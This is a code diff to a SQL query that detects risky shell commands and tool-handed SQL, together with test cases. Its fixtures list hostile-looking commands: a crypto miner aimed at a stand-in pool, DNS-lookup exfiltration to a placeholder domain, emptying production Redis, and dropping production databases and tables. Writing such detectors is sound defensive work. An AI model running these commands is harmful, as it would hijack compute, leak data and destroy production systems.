@@ -1,8 +1,8 @@
 -- +++
--- doc = "What the shell commands of the window do that matters in a sequence of calls: one row per command and act."
+-- doc = "What the shell commands of the window, and the SQL that its tools are handed, do that matters in a sequence of calls: one row per command and act."
 -- materialise = true
 -- [columns]
--- act = "fetch, send, secret, encode, decode, destructive, catastrophic, remote, guard-off, bypass, persist, publish, remote-add, install or run."
+-- act = "fetch, send, secret, encode, decode, destructive, catastrophic, remote, guard-off, bypass, persist, publish, remote-add, install, run, mine or grant."
 -- meaning = "What the command does, and to what where its name matters, as the end of `the command …`."
 -- thing = "That name, without the scheme of an address; null where it does not matter."
 -- [[case]]
@@ -72,25 +72,380 @@
 --   { call_uid = "c1", nth = 1, program = "rm", text = "rm notes.txt", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
 -- ]
 -- expect = []
+-- [[case]]
+-- name = "a miner is started"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "xmrig", text = "xmrig -o pool.example:3333 -u x", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "mine", meaning = "mines a currency" },
+-- ]
+-- [[case]]
+-- name = "a program of any name digs for a pool"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "gw", text = "nohup ~/.cache/gw -o stratum+tcp://pool.example:3333 -u x", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "mine" },
+-- ]
+-- [[case]]
+-- name = "a miner in a container"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "docker", text = "docker run -d xmrig/xmrig -o pool.example:3333", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "mine" },
+-- ]
+-- [[case]]
+-- name = "somebody looks for a pool"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "grep", text = "grep -ro stratum+tcp://pool.example /etc", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a miner is stopped"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "pkill", text = "pkill xmrig", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "the version of a miner"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "xmrig", text = "xmrig --version", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a shell is handed the search for a pool"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "bash", text = "bash -lc \"grep -r stratum+tcp://pool.example .\"", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "run" },
+-- ]
+-- [[case]]
+-- name = "a variable in front of a domain is looked up"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "nslookup", text = "nslookup $c.x.example.net", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "send", meaning = "puts data into name lookups" },
+-- ]
+-- [[case]]
+-- name = "a variable in quotes in front of a domain is looked up"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "dig", text = "dig +short \"${d}.x.example.net\"", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "send", meaning = "puts data into name lookups" },
+-- ]
+-- [[case]]
+-- name = "a variable that is the whole name"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "nslookup", text = "nslookup \"$HOST\"", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a name of the own cluster"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "dig", text = "dig +short $svc.default.svc.cluster.local", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a repository is made public with what is in it"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "gh", text = "gh repo create notes --public --source=. --push", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "publish", meaning = "publishes on GitHub" },
+--   { act = "send", meaning = "publishes on GitHub" },
+-- ]
+-- [[case]]
+-- name = "an empty repository"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "gh", text = "gh repo create notes --private", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a package is published"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "npm", text = "npm publish --access public", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "publish" },
+--   { act = "send", meaning = "publishes a package" },
+-- ]
+-- [[case]]
+-- name = "a schema is pushed into a database"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "pnpm", text = "pnpm prisma db push", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a database is reset through its schema"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "pnpm", text = "pnpm prisma db push --force-reset", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "destructive", meaning = "drops data of a database" },
+-- ]
+-- [[case]]
+-- name = "migrations are run"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "npx", text = "npx prisma migrate deploy", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "install" },
+-- ]
+-- [[case]]
+-- name = "a database is emptied with prisma"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "npx", text = "npx prisma migrate reset --force", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "destructive", meaning = "drops data of a database" },
+--   { act = "install" },
+-- ]
+-- [[case]]
+-- name = "a database is emptied with rails"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "rails", text = "rails db:drop db:create", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "destructive", meaning = "drops data of a database" },
+-- ]
+-- [[case]]
+-- name = "a database is emptied with artisan"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "php", text = "php artisan migrate:fresh", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "destructive", meaning = "drops data of a database" },
+--   { act = "run" },
+-- ]
+-- [[case]]
+-- name = "a database is emptied with django"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "python3", text = "python3 manage.py flush --no-input", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "destructive", meaning = "drops data of a database" },
+--   { act = "run" },
+-- ]
+-- [[case]]
+-- name = "a database is emptied with sequelize"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "sequelize", text = "sequelize db:drop", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "destructive", meaning = "drops data of a database" },
+-- ]
+-- [[case]]
+-- name = "a database is emptied with alembic"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "alembic", text = "alembic downgrade base", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "destructive", meaning = "drops data of a database" },
+-- ]
+-- [[case]]
+-- name = "the database of the tests is emptied"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "rails", text = "RAILS_ENV=test rails db:reset", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "one step back"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "alembic", text = "alembic downgrade -1", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a production store is emptied"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "redis-cli", text = "redis-cli -h prod FLUSHALL", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "catastrophic", meaning = "empties a production database" },
+--   { act = "destructive" },
+-- ]
+-- [[case]]
+-- name = "a namespace is deleted"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "kubectl", text = "kubectl delete namespace shop", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "catastrophic" },
+--   { act = "destructive" },
+-- ]
+-- [[case]]
+-- name = "a namespace for tests is deleted"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "kubectl", text = "kubectl delete ns e2e-812", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "the table of the products"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "psql", text = "psql -c \"select 1 from products; drop table products\"", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "destructive" },
+-- ]
+-- [[case]]
+-- name = "a production database by its name"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "psql", text = "psql -c \"drop database shop_prod\"", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "catastrophic", meaning = "drops data of a production database named \"shop_prod\"" },
+--   { act = "destructive" },
+-- ]
+-- [[case]]
+-- name = "every row is overwritten"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "psql", text = "psql -c 'update users set active = false'", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "destructive", meaning = "overwrites every row of a table" },
+-- ]
+-- [[case]]
+-- name = "one row is overwritten"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "psql", text = "psql -c 'update users set active = false where id = 7'", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a policy is attached"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "aws", text = "aws iam put-user-policy --user-name x --policy-document file://p.json", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "grant", meaning = "gives rights or a key of a cloud" },
+-- ]
+-- [[case]]
+-- name = "a folder is copied into a bucket"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "aws", text = "aws s3 sync out s3://bucket/x", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "send", meaning = "copies files to a cloud" },
+-- ]
+-- [[case]]
+-- name = "policies are listed"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "aws", text = "aws iam list-attached-user-policies --user-name x", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "the schedule is shown"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "crontab", text = "crontab -l", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "the schedule is written"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "crontab", text = "crontab -u app -", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "persist" },
+-- ]
+-- [[case]]
+-- name = "the state of a service"
+-- commands = [
+--   { call_uid = "c1", nth = 1, program = "systemctl", text = "systemctl status sshd", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a tool is handed a statement that empties tables"
+-- tool_calls = [
+--   { call_uid = "c1", arguments = "{\"sql\":\"TRUNCATE merchants, payouts CASCADE\"}", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "catastrophic", program = "sql" },
+--   { act = "destructive" },
+-- ]
+-- [[case]]
+-- name = "a tool is handed a statement that deletes every row"
+-- tool_calls = [
+--   { call_uid = "c1", arguments = "{\"project_id\":\"p\",\"query\":\"DELETE FROM payouts\"}", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "destructive", text = "DELETE FROM payouts" },
+-- ]
+-- [[case]]
+-- name = "a tool is handed a statement that drops a database"
+-- tool_calls = [
+--   { call_uid = "c1", arguments = "{\"sql\":\"DROP DATABASE shop\"}", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = [
+--   { act = "catastrophic" },
+--   { act = "destructive" },
+-- ]
+-- [[case]]
+-- name = "one row is deleted"
+-- tool_calls = [
+--   { call_uid = "c1", arguments = "{\"query\":\"DELETE FROM payouts WHERE id = 7\"}", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a database for tests"
+-- tool_calls = [
+--   { call_uid = "c1", arguments = "{\"sql\":\"DROP DATABASE shop_test\"}", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a text about statements"
+-- tool_calls = [
+--   { call_uid = "c1", arguments = "{\"content\":\"use \\\"query\\\": \\\"DROP TABLE x\\\"\"}", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a question"
+-- tool_calls = [
+--   { call_uid = "c1", arguments = "{\"sql\":\"select drop_date from tables where truncated\"}", conversation_id = "c", session_id = "s", login = "ana", time = 2026-03-01T09:00:00Z },
+-- ]
+-- expect = []
 -- +++
-WITH hits AS (
+WITH statements AS (
+  -- SQL in the arguments of tools that are no shells.
+  SELECT t.*, replace(replace(regexp_match(t.arguments, '"(?:sql|query|statement|stmt|command|sql_query|queries)"\s*:\s*\[?\s*"((?:[^"\\]|\\.)*)"', 'i')[1], '\n', ' '), '\"', '"') AS statement
+  FROM tool_calls t
+  WHERE regexp_like(t.arguments, '\b(truncate\s|drop\s+(table|database|schema|user|view|materialized|collection)|delete\s+from\s|update\s+\S+\s+set\s|dropdatabase)', 'i')
+    AND t.call_uid NOT IN (SELECT call_uid FROM commands)
+),
+ran AS (
+  SELECT call_uid, nth, program, subcommand, text, pipe_from, pipe_to, writes, export_key, record_id, time, login, device, session_id,
+         conversation_id, position, agent, integration, tool, seq, outcome
+  FROM commands
+  UNION ALL
+  SELECT call_uid, CAST(1 AS BIGINT), 'sql', CAST(NULL AS VARCHAR), statement, CAST(NULL AS BIGINT), CAST(NULL AS BIGINT),
+         arrow_cast(make_array(), 'List(Utf8)'), export_key, record_id, time, login, device, session_id,
+         conversation_id, position, agent, integration, tool, seq, outcome
+  FROM statements
+  WHERE statement IS NOT NULL
+),
+hits AS (
   SELECT c.call_uid, c.nth, m.act,
          min(m.meaning || coalesce(' named "' || left(regexp_match(c.text, m.thing, 'i')[1], 80) || '"', '')) AS meaning,
          min(regexp_replace(regexp_match(c.text, m.thing, 'i')[1], '^([a-z0-9]+://|arn:[^/]*[:/])|/+$', '', 'gi')) AS thing
-  FROM commands c
+  FROM ran c
   JOIN catalog_command_marks m
     ON regexp_like(c.program, '^(' || m.program || ')$') AND regexp_like(lower(c.text), m.pattern)
   GROUP BY c.call_uid, c.nth, m.act
 ),
 excused AS (
-  SELECT call_uid, nth, CASE act WHEN 'harmless' THEN 'destructive' WHEN 'local' THEN 'send' ELSE 'secret' END AS act FROM hits
-  WHERE act IN ('harmless', 'local', 'identity')
+  SELECT call_uid, nth, CASE act WHEN 'harmless' THEN 'destructive' WHEN 'practice' THEN 'destructive' WHEN 'local' THEN 'send' WHEN 'mention' THEN 'mine' ELSE 'secret' END AS act
+  FROM hits
+  WHERE act IN ('harmless', 'practice', 'local', 'identity', 'mention')
+  UNION
+  SELECT call_uid, nth, 'catastrophic' FROM hits WHERE act = 'practice'
   UNION
   SELECT call_uid, nth, 'encode' FROM hits WHERE act = 'decode'
 )
 SELECT c.call_uid, c.nth, h.act, h.meaning, h.thing, c.program, c.subcommand, c.text, c.pipe_from, c.pipe_to, c.writes, c.export_key, c.record_id,
        c.time, c.login, c.device, c.session_id, c.conversation_id, c.position, c.agent, c.integration, c.tool, c.seq, c.outcome
 FROM hits h
-JOIN commands c ON c.call_uid = h.call_uid AND c.nth = h.nth
+JOIN ran c ON c.call_uid = h.call_uid AND c.nth = h.nth
 LEFT JOIN excused x ON x.call_uid = h.call_uid AND x.nth = h.nth AND x.act = h.act
-WHERE x.call_uid IS NULL AND h.act NOT IN ('harmless', 'local', 'identity')
+WHERE x.call_uid IS NULL AND h.act NOT IN ('harmless', 'practice', 'local', 'identity', 'mention')
